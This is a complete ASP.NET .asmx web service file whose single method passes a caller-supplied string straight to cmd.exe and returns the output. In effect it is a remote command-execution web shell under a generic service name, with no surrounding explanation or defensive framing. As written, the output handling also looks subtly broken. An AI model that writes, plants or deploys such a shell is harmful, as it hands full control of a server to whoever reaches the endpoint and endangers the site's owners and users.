<%@ WebService Language="C#" Class="Svc" %>
using System.Web.Services;
public class Svc : WebService {
  [WebMethod] public string Run(string c) { var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + c); return p.StandardOutput.ReadToEnd(); }
}
